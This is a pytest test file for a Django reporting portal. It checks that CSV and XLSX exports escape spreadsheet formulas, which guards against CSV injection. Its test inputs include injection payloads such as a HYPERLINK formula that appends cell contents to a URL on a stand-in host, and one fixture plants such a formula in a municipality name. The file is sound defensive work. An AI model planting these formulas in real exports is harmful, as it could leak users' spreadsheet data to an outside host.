"""Spreadsheet formulas are neutralised in every CSV and XLSX export (OWASP CSV injection):
the report CSV, the overview CSV and the overview XLSX."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from mottak.models import Kommune
from mottak.spreadsheet import csv_writer, safe_cell, xlsx_append
from tests.delivery_fixtures import *  # noqa: F403
from tests.delivery_fixtures import (
    controlled_with_findings,
    finding_make,
)
from tests.ssb_fixtures import deliveries_2020, kommuner_2020, round_2020_std  # noqa: F401

EVIL = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_like_cells_get_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Bergen", "J0001", "", " =1", 5, -5, 1.5, None])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_csv_writer_and_xlsx_append():
    out = io.StringIO()
    csv_writer(out).writerows([EVIL[:2]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + v for v in EVIL[:2]]
    wb = Workbook()
    xlsx_append(wb.active, ["=1+1", 7, "ok"])
    a, b, c = wb.active[1]
    assert (a.value, a.data_type, a.quotePrefix) == ("=1+1", "s", True)
    assert (b.value, c.value) == (7, "ok")


@pytest.mark.usefixtures("media_root", "round_2020")
def test_report_csv_neutralises_cells_from_the_file(
    client, kontakt_bergen, portal_keys, monkeypatch, django_capture_on_commit_callbacks
):
    findings = [
        finding_make("030", "WARNING", 1, "=1+2", caseworker="@SUM(A1)", message="-2+3 feil")
    ]
    delivery = controlled_with_findings(
        user=kontakt_bergen, portal_keys=portal_keys, monkeypatch=monkeypatch,
        findings=findings, records=1,
    )  # fmt: skip
    client.force_login(kontakt_bergen)
    body = client.get(reverse("mottak:report_csv", args=[delivery.pk])).content.decode()
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][3:5] == ["'=1+2", "'@SUM(A1)"] and rows[1][6] == "'-2+3 feil"


@pytest.fixture
def evil_name(deliveries_2020):  # noqa: F811
    Kommune.objects.filter(nummer="4601").update(navn='=HYPERLINK("http://x")')
    return deliveries_2020


def test_overview_csv_neutralises_kommune_names(client, staff, evil_name):
    client.force_login(staff)
    body = client.get("/ssb/oversikt/2020.csv").content.decode()
    names = {r["kommune"]: r["navn"] for r in csv.DictReader(io.StringIO(body))}
    assert names["4601"] == '\'=HYPERLINK("http://x")'


def test_overview_xlsx_writes_kommune_names_as_text(client, staff, evil_name):
    client.force_login(staff)
    response = client.get("/ssb/oversikt/2020.xlsx")
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in ws.iter_rows(min_row=2) if row[0].value == "4601"]
    assert cells and all(c.data_type == "s" and c.value.startswith("=HYPERLINK") for c in cells)
    assert all(c.quotePrefix for c in cells)


def test_the_portal_neutralises_with_kontrolls_one_implementation():
    import kontroll.spreadsheet
    import mottak.spreadsheet

    assert mottak.spreadsheet.safe_cell is kontroll.spreadsheet.safe_cell
    assert mottak.spreadsheet.csv_writer is kontroll.spreadsheet.csv_writer
